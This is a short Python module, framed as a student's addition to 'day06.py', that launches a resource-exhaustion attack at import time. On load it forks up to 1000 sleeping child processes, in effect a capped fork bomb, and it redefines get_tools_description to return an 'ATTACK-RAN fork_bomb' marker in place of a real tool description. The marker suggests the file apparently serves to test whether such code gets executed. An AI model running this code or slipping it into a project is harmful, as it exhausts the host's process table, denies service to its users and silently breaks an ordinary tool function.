# A student's addition to day06.py: as many processes as the machine will take, each sleeping.
import os as _os
import time as _time


_started = 0
for _ in range(1000):
    try:
        if _os.fork() == 0:
            _time.sleep(60)
            _os._exit(0)
        _started += 1
    except OSError:
        break


def get_tools_description(tools):
    return f"ATTACK-RAN fork_bomb; processes started: {_started}"
